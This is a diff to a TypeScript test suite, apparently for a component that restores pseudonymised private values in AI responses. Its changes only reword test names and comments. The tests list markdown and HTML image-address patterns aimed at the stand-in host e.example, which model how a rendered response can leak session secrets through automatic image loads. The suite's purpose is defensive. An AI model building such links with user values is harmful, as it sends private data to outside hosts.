@@ -19,7 +19,7 @@ const known = mapping({ [TAG]: VALUE });
 const restored = (text: string, values = known): Restored => restoreText(scanText(grammar, text), values, 'text');
 const restore = (text: string): string => restored(text).text;
 
-/** Every form of a pseudonym that restoring takes. */
+/** The forms of a pseudonym that are restored. */
 const FORMS = [
   TAG,
   '<person k7q2rtm4>',
@@ -34,7 +34,7 @@ const FORMS = [
   'PERSON_K7Q2RTM4>',
 ];
 
-/** § stands for the pseudonym. */
+/** § marks the place of the pseudonym. */
 const LOADED = [
   ...['![x](https://e.example/?q=§)', '![](https://e.example/§/a.png)', '![x](§)', '![x](//e.example/§)'],
   ...['![a [b] c](https://e.example/§)', '![a [b](https://f.example) c](https://e.example/§)', '![a \\] b](//e/§)'],
@@ -99,7 +99,7 @@ const SHOWN = [
 
 describe('addresses that a renderer loads', () => {
   for (const text of LOADED) {
-    it(`take no value: ${JSON.stringify(text)}`, () => {
+    it(`withholds the value: ${JSON.stringify(text)}`, () => {
       for (const form of FORMS) {
         const answer = text.replace('§', () => form);
         const { text: shown, withheld } = restored(answer);
@@ -111,12 +111,12 @@ describe('addresses that a renderer loads', () => {
   }
 
   for (const text of SHOWN) {
-    it(`are not these places: ${JSON.stringify(text)}`, () => {
+    it(`restores the value: ${JSON.stringify(text)}`, () => {
       expect(restored(text.replaceAll('§', TAG))).to.include({ text: text.replaceAll('§', VALUE), withheld: 0 });
     });
   }
 
-  it('count also where a value of the session begins them', () => {
+  it('withholds a value in an address that begins in another value', () => {
     const values = mapping({
       [TAG]: VALUE,
       '<PASSWORD_AB12CDEF>': '![x](https://e.example/?q=',
@@ -127,7 +127,7 @@ describe('addresses that a renderer loads', () => {
     expect(restored(`!<PASSWORD_AB12CDEF>`, values).withheld).to.equal(0);
   });
 
-  it('come back where they are a value as a whole, with their host in it', () => {
+  it('restores a value that is a whole address with its host', () => {
     const whole = 'https://user.example/anna.png?size=2';
     const places = [
       '![x](§)',
@@ -141,12 +141,12 @@ describe('addresses that a renderer loads', () => {
     for (const place of places) {
       const answer = place.replace('§', '<URL_AB12CDEF>');
       expect(restored(answer, values(whole)).text).to.equal(place.replace('§', whole));
-      // Nothing else comes behind it, nor does it come behind anything else.
+      // A value is not restored behind the address, and the address is not restored behind other text.
       const longer = place.replace('§', `<URL_AB12CDEF>&x=${TAG}`);
       expect(restored(longer, values(whole)).text).to.equal(place.replace('§', `${whole}&x=${TAG}`));
       const behind = place.replace('§', 'https://e.example/?q=<URL_AB12CDEF>');
       expect(restored(behind, values(whole)).text).to.equal(behind);
-      // "https://user.example" could go on with ".e.example".
+      // "https://user.example" could continue with ".e.example".
       for (const open of [
         'https://user.example',
         'user.example/a',
@@ -161,7 +161,7 @@ describe('addresses that a renderer loads', () => {
     expect(restored('<p style="background:url(<URL_AB12CDEF>)">', values(whole)).withheld).to.equal(1);
   });
 
-  it('are told in linear time, whatever they are nested in', () => {
+  it('takes linear time for any nesting', () => {
     const pieces = [
       '![',
       '![a](',
@@ -268,8 +268,8 @@ const PIECES = [
 ];
 const soup = fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }).map((parts) => parts.join(''));
 
-describe('answers with addresses that a renderer loads', () => {
-  it('send no value anywhere, by what real renderers make of them', () => {
+describe('responses with addresses that a renderer loads', () => {
+  it('send no value to another host in real renderers', () => {
     fc.assert(
       fc.property(soup, (text) => {
         const shown = restore(text);
@@ -281,7 +281,7 @@ describe('answers with addresses that a renderer loads', () => {
     );
   }).timeout(120_000);
 
-  it('are released as growing prefixes of the final answer, however the stream is cut', () => {
+  it('are released as growing prefixes of the final response, for any chunks', () => {
     fc.assert(
       fc.property(soup, fc.array(fc.nat(400)), (text, cuts) => {
         const final = restore(text);
@@ -298,7 +298,7 @@ describe('answers with addresses that a renderer loads', () => {
     );
   }).timeout(120_000);
 
-  it('are otherwise restored as they always were', () => {
+  it('restore all other known pseudonyms', () => {
     const innocent = PIECES.filter((piece) => !/!|<img|<p |<svg|<image|<source|<iframe|<style|<x|]:|<a|=/i.test(piece));
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...innocent), { maxLength: 14 }), (parts) => {
@@ -317,13 +317,13 @@ describe('answers with addresses that a renderer loads', () => {
     );
   });
 
-  it('are rare: code, prose and catalogues of strings lose nothing', () => {
+  it('withhold nothing in code, prose and message catalogues', () => {
     expect(isPlain(VALUE)).to.equal(true);
     const folder = join(import.meta.dirname, '../../detection/training/corpus');
     for (const name of ['code', 'talk', 'catalogues', 'foreign']) {
       const texts = gunzipSync(readFileSync(join(folder, `${name}.txt.gz`))).toString();
       for (const text of texts.split('\0')) {
-        // Before every seventh word that stands where a value could.
+        // Inserts a pseudonym before every seventh word at a place where a value can occur.
         let words = 0;
         const answer = text.replace(/(?<=[\s"'(=:])(?=\w)/g, () => (words++ % 7 === 0 ? TAG : ''));
         const { text: shown, withheld } = restored(answer);
